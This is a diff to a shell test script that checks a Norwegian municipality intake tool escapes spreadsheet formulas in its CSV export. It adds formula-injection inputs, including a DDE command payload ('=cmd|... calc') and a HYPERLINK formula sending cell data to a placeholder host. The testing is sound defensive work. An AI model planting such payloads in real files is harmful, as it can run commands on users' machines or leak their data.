@@ -84,7 +84,14 @@ make("number-2024", municipality__number="3201")
 make("kommune-suffix", municipality__name="Bærum kommune")
 make("formula", contact__name='=HYPERLINK("http://example.invalid","Klikk")', contact__title="+1", invoice__reference="@SUM(A1)")
 make("huge-population", municipality__population=2**63)
+# A formula corpus in every text the CSV shows, and in file names.
+formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1", "=cmd|' /C calc'!A0",
+            '=HYPERLINK("http://example.invalid/?"&A1,"Klikk")', "-2+3", "+47 ;=1", '"=1"', "=1\n=2"]
+for i, f in enumerate(formulas):
+    make(f"{f[:1].strip() or '_'}formel-{i}", municipality__number="9999", municipality__name=f, municipality__population=f,
+         contact__name=f, contact__email=f, contact__phone=f, theme_day__preferred_from=f)
 PY
+mv "$h/=formel-0.json" "$h/=1+1.json"
 expect hostile-unknown   1 "feil municipality.number: Kommunenummer 9999 finnes ikke"   -- validate "$h/unknown.json"
 expect hostile-name      1 "feil municipality.name: Kommunenummer 3024 er Bærum, ikke «Oslo»" -- validate "$h/oslo.json"
 expect hostile-orgnr     1 "feil municipality.orgnr: 959159092 er organisasjonsnummeret til Halden; Bærum har" -- validate "$h/halden-orgnr.json"
@@ -94,8 +101,8 @@ expect same-bracket      0 "advarsel municipality.population: .*avgiften blir de
 expect number-2024       0 "advarsel municipality.number: 3201 er kommunenummeret Bærum har hatt fra 2024; i nettverket er Bærum 3024" -- validate "$h/number-2024.json"
 expect kommune-suffix    0 "kommune-suffix.json: klar til å sendes"                  -- validate "$h/kommune-suffix.json"
 expect huge-population   1 "Innbyggertallet kan ikke være over"                        -- validate "$h/huge-population.json"
-# All but one are Bærum (3201 is Bærum too): the last by name counts, the others are replaced.
-expect hostile-intake    0 "9 filer: 0 klare, 2 med feil, 0 ugyldige, 7 erstattet"  -- intake "$h" --csv "$tmp/hostile.csv"
+# All are Bærum (3201 is Bærum too) or 9999: per number the last by name counts, the others are replaced.
+expect hostile-intake    0 "23 filer: 0 klare, 2 med feil, 0 ugyldige, 21 erstattet"  -- intake "$h" --csv "$tmp/hostile.csv"
 # Every cell is read back by Python's csv module; no cell starts like a formula.
 if python3 - "$tmp/hostile.csv" <<'PY'
 import csv, sys
@@ -105,6 +112,9 @@ for r in rows:
     for c in r:
         assert not c or c[0] not in "=+-@\t\r", c
 assert any(c.startswith("'=HYPERLINK(") for r in rows for c in r)
+assert any(r[0] == "'=1+1.json" for r in rows), "a file name that is a formula"
+for f in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1", "=1\n=2"]:
+    assert sum(c == "'" + f for r in rows for c in r) >= 3, f
 PY
 then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL csv formulas"; fi
 expect intake-nodir      2 "Bruk:"                                                   -- intake "$d/finnes-ikke" --csv "$tmp/x.csv"
